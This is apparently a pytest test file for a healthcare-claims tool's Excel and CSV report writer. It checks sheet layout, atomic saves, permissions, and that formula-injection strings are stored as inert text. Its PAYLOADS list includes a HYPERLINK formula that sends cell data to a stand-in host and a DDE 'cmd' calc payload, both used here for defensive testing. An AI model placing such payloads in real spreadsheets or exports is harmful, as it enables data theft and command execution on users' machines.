"""The workbook and findings file, opened back (never byte-compared)."""

from __future__ import annotations

import gc
import os
import re
import stat
import subprocess
import sys
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from cleanclaim.flows import report
from cleanclaim.flows.report import atomic_path, write_findings_file, write_workbook
from cleanclaim.validators import findings as fnd
from tests.conftest import REPO

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.invalid/?"&A2,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "#REF!",
    "=",
    "'=1+1",
]


def findings_with(messages: list[str]) -> pl.DataFrame:
    n = len(messages)
    return pl.DataFrame(
        {
            "claim_id": [f"C{i}" for i in range(n)],
            "line_number": [1] * n,
            "rule_id": ["FLD001"] * n,
            "category": ["field-integrity"] * n,
            "severity": ["high"] * n,
            "carc": ["CO-16"] * n,
            "rarc": [None] * n,
            "message": messages,
            "fix": ["fix it"] * n,
            "charge_at_risk": [10.0] * n,
            "source_file": ["x.csv"] * n,
            "source_row": list(range(2, n + 2)),
        },
        schema=fnd.FINDINGS_SCHEMA,
    )


CLAIMS = pl.DataFrame(
    {
        "Claim ID": ["C0", "C1"],
        "Billed": [125.5, 80.0],
        "First service": [date(2026, 9, 1)] * 2,
        "Score": [100, 0],
        "Status": ["hold", "clean"],
    }
)
RULES = pl.DataFrame(
    {
        "Rule": ["FLD000", "FLD001"],
        "Title": ["another", "member id missing"],
        "Severity": ["high"] * 2,
    }
)
PROBLEMS = pl.DataFrame(schema={"File": pl.String, "Problem": pl.String})
MESSAGE_COLUMN = 4  # in the Findings frame below


def write(path: Path, messages: list[str], **kw) -> dict:
    """A workbook whose Findings sheet carries `messages`; other sheets small and fixed."""
    sheet = findings_with(messages).select(
        pl.col("claim_id").alias("Claim ID"),
        pl.col("rule_id").alias("Rule"),
        pl.col("severity").alias("Severity"),
        pl.col("message").alias("Message"),
        pl.col("charge_at_risk").alias("At risk"),
    )
    return write_workbook(
        path, kw.get("run", RUN), kw.get("tables", {}), CLAIMS, sheet, RULES, PROBLEMS
    )


RUN = {"facts": [("As-of date", "2026-09-30")], "warnings": [], "findings_file": "findings.csv"}


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_known_payloads_are_text_not_formulas(tmp_path):
    path = tmp_path / "r.xlsx"
    write(path, PAYLOADS)
    xml = sheet_xml(path)
    # the only formulas are cleanclaim's own totals rows, never a cell's text
    formulas = re.findall(r"<f>(.*?)</f>", xml)
    assert formulas and all(re.fullmatch(r"SUBTOTAL\(109,[A-Z]+2:[A-Z]+\d+\)", f) for f in formulas)
    assert 't="e"' not in xml
    ws = openpyxl.load_workbook(path)["Findings"]
    cells = [ws.cell(row=i + 2, column=MESSAGE_COLUMN) for i in range(len(PAYLOADS))]
    assert [c.value for c in cells] == PAYLOADS
    assert all(c.data_type == "s" for c in cells)
    assert [c.quotePrefix for c in cells] == [
        p.startswith((*report.FORMULA_TRIGGERS, "#")) for p in PAYLOADS
    ]
    # the column's wrap is on every cell, the ones kept text and the plain ones between them (a
    # style is set once and copied: the quote prefix must not travel with it)
    assert all(c.alignment.wrap_text for c in cells)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.text(max_size=40))
@example("\x0b=SUM(A1)")
@example("A\x1aB")
def test_any_string_is_stored_as_text(tmp_path, text):
    path = tmp_path / "r.xlsx"
    write(path, [text or "x"])
    assert all(f.startswith("SUBTOTAL(109,") for f in re.findall(r"<f>(.*?)</f>", sheet_xml(path)))
    value = openpyxl.load_workbook(path)["Findings"].cell(row=2, column=MESSAGE_COLUMN).value
    assert value == report.ILLEGAL_CHARACTERS_RE.sub("\ufffd", text or "x")


def test_workbook_sheets_headers_formats_and_links(tmp_path):
    path = tmp_path / "r.xlsx"
    tables = {
        "Rules by dollars at risk": pl.DataFrame({"Rule": ["FLD001"], "Dollars at risk": [10.0]})
    }
    write(path, ["a", "b", "c"], tables=tables)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "Claims", "Findings", "Rules", "Input problems"]
    ws = wb["Findings"]
    assert [c.value for c in ws[1]] == ["Claim ID", "Rule", "Severity", "Message", "At risk"]
    # Claim ID stays in view; the totals row sums what a filter leaves visible, below the filter
    assert ws.max_row == 5 and ws.freeze_panes == "B2" and ws.auto_filter.ref == "A1:E4"
    assert ws["A5"].value == "Total" and ws["E5"].value == "=SUBTOTAL(109,E2:E4)"
    assert ws["E2"].number_format == report.MONEY
    # each rule id jumps to its row on Rules (FLD001 is the second rule: row 3)
    assert ws["B2"].hyperlink.location == "'Rules'!A3" and wb["Rules"]["A3"].value == "FLD001"
    # severity colours are conditional formats over the column, not a style per cell
    assert {str(r.sqref) for r in ws.conditional_formatting} == {"C2:C4"}
    claims = wb["Claims"]
    assert list(claims.tables) == ["Claims"] and claims.tables["Claims"].ref == "A1:E4"
    assert (
        claims.tables["Claims"].totalsRowCount == 1 and claims["B4"].value == "=SUBTOTAL(109,B2:B3)"
    )
    assert claims["B2"].number_format == report.MONEY and claims["C2"].number_format == report.DATE
    assert claims["C2"].value.date() == date(2026, 9, 1) and claims["D2"].value == 100
    summary = [[c.value for c in row] for row in wb["Summary"].iter_rows()]
    assert ["As-of date", "2026-09-30"] in summary and ["FLD001", 10] in summary
    fld001 = next(row for row in wb["Summary"].iter_rows() if row[0].value == "FLD001")
    assert fld001[1].number_format == report.MONEY


def test_sheets_are_bounded_and_the_summary_says_where_the_rest_is(tmp_path, monkeypatch):
    monkeypatch.setattr(report, "SHEET_ROW_LIMIT", 2)
    path = tmp_path / "r.xlsx"
    out = write(path, ["a", "b", "c", "d"])
    wb = openpyxl.load_workbook(path)
    assert out["rows_not_shown"] == 2 and wb["Findings"].max_row == 4  # 2 rows and the totals
    texts = [c.value for row in wb["Summary"].iter_rows() for c in row if isinstance(c.value, str)]
    assert any(
        "Findings sheet shows the 2 most urgent of 4 rows" in t and "findings.csv" in t
        for t in texts
    )


def test_the_count_of_findings_not_shown_leaves_out_the_claims_sheets_cut(tmp_path, monkeypatch):
    """ "N more are in findings.csv" counts findings only: 90,000 claims cut from the Claims sheet
    were once announced as 90,000 more findings for a file with none."""
    monkeypatch.setattr(report, "SHEET_ROW_LIMIT", 1)
    out = write(tmp_path / "r.xlsx", [])
    assert CLAIMS.height == 2 and out["rows_not_shown"] == 0
    assert write(tmp_path / "s.xlsx", ["a", "b", "c"])["rows_not_shown"] == 2


def test_time_zone_aware_datetimes_are_written_as_local_wall_time(tmp_path):
    """openpyxl raises inside save() on an aware datetime."""
    aware = datetime(2026, 9, 30, 12, 0, tzinfo=UTC)
    run = {**RUN, "facts": [("Run at", aware)]}
    write(tmp_path / "r.xlsx", ["a"], run=run)
    value = openpyxl.load_workbook(tmp_path / "r.xlsx")["Summary"]["B3"].value
    assert value == aware.astimezone().replace(tzinfo=None)


def test_over_long_text_is_cut_and_counted(tmp_path):
    out = write(tmp_path / "r.xlsx", ["x" * 40_000])
    value = (
        openpyxl.load_workbook(tmp_path / "r.xlsx")["Findings"]
        .cell(row=2, column=MESSAGE_COLUMN)
        .value
    )
    assert out["texts_truncated"] == 1 and len(value) == report.EXCEL_MAX_TEXT


@pytest.mark.filterwarnings(
    "ignore::pytest.PytestUnraisableExceptionWarning"
)  # openpyxl's abandoned writer
def test_failure_mid_save_keeps_the_previous_report_and_leaves_no_debris(tmp_path, monkeypatch):
    path = tmp_path / "r.xlsx"
    write(path, ["OLD"])

    def broken_save(self, filename):
        Path(filename).write_bytes(b"PK\x03\x04 half a zip")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", broken_save)
    with pytest.raises(OSError):
        write(path, ["NEW"])
    assert (
        openpyxl.load_workbook(path)["Findings"].cell(row=2, column=MESSAGE_COLUMN).value == "OLD"
    )
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]
    gc.collect()  # finalise the abandoned sheet writers here, under this test's warning filter


def test_written_files_follow_the_umask_not_mkstemp(tmp_path):
    old = os.umask(0o027)
    try:
        path = write_findings_file(findings_with(["a"]), tmp_path / "f.csv")
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o640


def test_atomic_path_replaces_only_on_success(tmp_path):
    target = tmp_path / "f.txt"
    target.write_text("old")
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        tmp.write_text("new")
        raise RuntimeError("crash")
    assert target.read_text() == "old" and len(list(tmp_path.iterdir())) == 1


def test_csv_neutraliser_never_leaves_a_trigger_first(tmp_path):
    path = write_findings_file(findings_with(PAYLOADS), tmp_path / "f.csv")
    back = pl.read_csv(path, infer_schema=False)
    for original, written in zip(PAYLOADS, back["message"], strict=True):
        assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert written in (original, "'" + original)
    assert back["charge_at_risk"].to_list() == ["10.0"] * len(PAYLOADS)  # numbers are not prefixed


def test_parquet_findings_file_keeps_types(tmp_path):
    path = write_findings_file(findings_with(["a"]), tmp_path / "f.parquet")
    # the table's categorical columns are written as the text they stand for
    assert pl.read_parquet(path).schema == pl.Schema(
        {c: pl.String if t == pl.Categorical else t for c, t in fnd.FINDINGS_SCHEMA.items()}
    )


def test_sheets_print_landscape_fitted_to_one_page_wide(tmp_path):
    """openpyxl write-only mode drops sheet properties set after the first row: they must be set first."""
    path = tmp_path / "r.xlsx"
    write(path, ["a"])
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
        assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert wb["Findings"].print_title_rows == "$1:$1"


def test_the_workbook_module_builds_its_sheets_from_frames_without_the_pipeline():
    """report.py takes the run's tables; the pipeline imports it, never the reverse."""
    code = (
        "import sys, cleanclaim.flows.report; sys.exit('cleanclaim.flows.pipeline' in sys.modules)"
    )
    assert subprocess.run([sys.executable, "-c", code], cwd=REPO).returncode == 0
